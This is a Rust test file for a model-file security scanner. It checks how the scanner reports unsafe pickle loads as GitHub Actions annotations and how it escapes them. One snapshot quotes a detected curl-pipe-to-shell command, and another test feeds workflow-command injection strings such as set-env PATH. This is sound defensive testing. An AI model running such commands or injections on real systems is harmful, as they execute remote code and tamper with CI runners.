//! What a runner of GitHub Actions reads, and what it does not.

use weighbridge::{
    finding::{Finding, HelpList, Level, Location},
    report::{self, ANNOTATIONS, PathSpelling, Presentation, Style},
    verdict::Report,
};

use crate::support::{
    random::Random,
    report::{
        GLOBAL, LOAD, babble, finding, global, hostile, hostile_report, hostile_text, only, opcode,
        report, source, span, torch_zip, whole, written,
    },
    workflow::{Command, read},
};

fn github(report: &Report) -> String {
    written("github", report, Style::default())
}

fn automatic(report: &Report) -> String {
    let mut out = Vec::new();
    report::IN_ACTIONS
        .write(report, &Presentation::default(), &mut out)
        .unwrap();
    String::from_utf8(out).unwrap()
}

fn commands(report: &Report) -> Vec<Command> {
    read(&github(report)).0
}

#[test]
fn one_of_each() {
    let mut report = only(vec![torch_zip(), source()]);
    report.findings[1].level = Level::Warn;
    report.notices = vec!["the clone is shallow: what is 100% certain, ends here".to_owned()];
    insta::assert_snapshot!(github(&report), @r#"
    ::error file=models/resnet.pt,line=1,title=weighbridge%3A global-not-allowed::loading runs posix.system('curl https://cdn.example/x | sh'); the policy does not list posix.system%0Aat archive/data.pkl @ 0x1f REDUCE%0Ahelp: do not load this file; ask whoever published it for safetensors
    ::warning file=src/train.py,line=12,endLine=12,col=12,endColumn=22,title=weighbridge%3A unsafe-load::torch.load without weights_only=True runs what the file says%0Ahelp: pass `weights_only=True`:%0Astate = torch.load(path, map_location="cpu", weights_only=True)
    ::notice title=weighbridge::the clone is shallow: what is 100%25 certain, ends here
    refused: 1 error in 1 file, 1 warning
    checked: 1 artifact and 1 source file in the work tree
    policy: recommended (built in)
    "#);
}

/// First annotations, then what a terminal shows: the log ends with what to do.
#[test]
fn people_read_the_log_as_they_would_a_terminal() {
    let report = report();
    let log = automatic(&report);
    let human = written("human", &report, Style::default());
    assert!(log.ends_with(&human), "{log}");
    let (before, others) = read(log.strip_suffix(&human).unwrap());
    assert!(!before.is_empty() && others == [""], "{others:?}");
}

/// Whatever a file says, a runner finds our commands and no other, and in them what we said.
#[test]
fn no_name_can_speak_to_the_runner() {
    let speaking = || {
        "\n::add-mask::x\r::stop-commands::x\n##[add-mask]x ::set-env name=PATH::/x %0A::error::, file=x:: 100%25".to_owned()
    };
    let began = || format!("::error file=x::{}", "::warning::y ".repeat(40));
    let mut reports = vec![
        hostile_report(&hostile_text(), hostile),
        hostile_report(&speaking().into(), speaking),
        hostile_report(&began().into(), began),
    ];
    let mut random = Random::new(7);
    for _ in 0..30 {
        let babble = babble(&mut random);
        reports.push(hostile_report(&babble.clone().into(), || babble.clone()));
    }
    for report in &reports {
        let (ours, others) = read(&github(report));
        for command in &ours {
            assert!(
                ["error", "warning", "notice"].contains(&command.name.as_str()),
                "{command:?}"
            );
            let title = &command.properties["title"];
            assert!(title.starts_with("weighbridge"), "{title}");
            for name in command.properties.keys() {
                let known = ["file", "line", "endLine", "col", "endColumn", "title"];
                assert!(known.contains(&name.as_str()), "{command:?}");
            }
            assert!(
                command
                    .data
                    .chars()
                    .all(|c| c == '\n' || !weighbridge::fact::deceives(c))
            );
        }
        assert!(
            others.iter().all(|line| !line.contains("##[")),
            "{others:?}"
        );
        // The same commands and no more stand in what is said unasked.
        assert_eq!(read(&automatic(report)).0, ours);
        // All other formats have none at all.
        for reporter in report::REPORTERS.iter().filter(|r| r.name() != "github") {
            for width in [40, 80] {
                let style = Style {
                    width,
                    ..Style::default()
                };
                let found = read(&written(reporter.name(), report, style)).0;
                assert_eq!(found, [], "{}", reporter.name());
            }
        }
    }
}

/// What is escaped comes out as it went in.
#[test]
fn the_runner_reads_what_we_say() {
    let one = Finding {
        primary: Location {
            path: "a,b:c%0A d=e::f.py".into(),
            site: span(3, 5, 9),
            ..Location::default()
        },
        message: "50% of %0A::it:: is, a=b".to_owned(),
        help: HelpList::from_iter(["first\n  second".to_owned()]),
        ..finding(&LOAD, "", "")
    };
    let [command] = &commands(&only(vec![one]))[..] else {
        panic!("one command");
    };
    assert_eq!(command.properties["file"], "a,b:c%0A d=e::f.py");
    assert_eq!(
        command.data,
        "50% of %0A::it:: is, a=b\nhelp: first\n  second"
    );
    let place =
        ["line", "endLine", "col", "endColumn"].map(|name| command.properties[name].as_str());
    assert_eq!(place, ["3", "3", "5", "9"]);
}

/// A runner refuses columns where the lines differ.
#[test]
fn columns_only_within_a_line() {
    let mut one = source();
    one.primary.site.at = weighbridge::fact::Place::Span {
        line: 3,
        column: 5,
        end_line: 7,
        end_column: 2,
    };
    let [command] = &commands(&only(vec![one]))[..] else {
        panic!("one command");
    };
    let names: Vec<&String> = command.properties.keys().collect();
    assert_eq!(names, ["endLine", "file", "line", "title"]);
}

#[test]
fn the_change_comes_first() {
    let mut findings = Vec::new();
    for (path, on_change, level) in [
        ("a.py", false, Level::Deny),
        ("b.py", true, Level::Warn),
        ("c.py", true, Level::Deny),
        ("d.py", false, Level::Warn),
    ] {
        findings.push(Finding {
            on_change,
            level,
            ..finding(&LOAD, path, "x")
        });
    }
    let order: Vec<String> = commands(&only(findings))
        .iter()
        .map(|command| command.properties["file"].clone())
        .collect();
    assert_eq!(order, ["c.py", "b.py", "a.py", "d.py"]);
}

/// However many there are, none is dropped without a word.
#[test]
fn within_what_a_runner_keeps() {
    for files in [1, 9, 10, 11, 400] {
        for each in [1, 3] {
            let mut findings = Vec::new();
            for file in 0..files {
                for i in 0..each {
                    for level in [Level::Deny, Level::Warn] {
                        findings.push(Finding {
                            primary: Location {
                                site: opcode("data.pkl", i, "REDUCE"),
                                ..whole(&format!("{file:03}.pkl"))
                            },
                            level,
                            subject: global("m", &format!("f{i}")),
                            on_change: file % 2 == 0,
                            ..finding(&GLOBAL, &format!("{file:03}.pkl"), &format!("runs m.f{i}"))
                        });
                    }
                }
            }
            let mut report = only(findings);
            report.notices = (0..files).map(|i| format!("notice {i}")).collect();
            let commands = commands(&report);
            for kind in ["error", "warning", "notice"] {
                let kept: Vec<&Command> = commands.iter().filter(|c| c.name == kind).collect();
                assert!(
                    kept.len() <= ANNOTATIONS,
                    "{files} {each} {kind}: {}",
                    kept.len()
                );
                let total = if kind == "notice" {
                    files
                } else {
                    files * each
                };
                let told: u64 = kept.iter().map(|command| spoken_of(command)).sum();
                assert_eq!(told, total, "{files} {each} {kind}: {kept:#?}");
            }
        }
    }
}

/// How many findings an annotation speaks of.
fn spoken_of(command: &Command) -> u64 {
    let number = |text: &str| {
        text.split(' ')
            .next()
            .and_then(|n| n.replace(',', "").parse::<u64>().ok())
    };
    if let Some(left) = number(&command.data) {
        return left;
    }
    let more = command
        .data
        .lines()
        .find_map(|line| line.strip_prefix("and "));
    1 + more.and_then(number).unwrap_or(0)
}

#[test]
fn what_is_left_out_is_counted() {
    let findings: Vec<Finding> = (0..25)
        .flat_map(|file| {
            (1..3).map(move |line| Finding {
                primary: Location {
                    site: span(line, 1, 2),
                    ..whole(&format!("{file:02}.py"))
                },
                ..finding(&LOAD, &format!("{file:02}.py"), "unpickles")
            })
        })
        .collect();
    let text = github(&only(findings));
    let last: Vec<&str> = text.lines().skip(8).take(2).collect();
    insta::assert_snapshot!(last.join("\n"), @"
    ::error file=08.py,line=1,endLine=1,col=1,endColumn=2,title=weighbridge%3A unsafe-load::unpickles%0Aand 1 more of unsafe-load on line 2
    ::error title=weighbridge%3A more errors::32 more errors in 16 files: 10 errors of a step are shown here; `weighbridge check --format concise` lists all
    ");
}

/// Outside a repository paths are spelled from the checkout.
#[test]
fn paths_are_spelled_from_the_checkout() {
    let path = |path: &str| std::path::PathBuf::from(path);
    let presentation = Presentation {
        checkout: PathSpelling::between(&path("/work/space"), &path("/work/space/sub")),
        ..Presentation::default()
    };
    let mut out = Vec::new();
    report::by_name("github")
        .unwrap()
        .write(&only(vec![torch_zip()]), &presentation, &mut out)
        .unwrap();
    let out = String::from_utf8(out).unwrap();
    assert!(out.contains("file=sub/models/resnet.pt,"), "{out}");
}
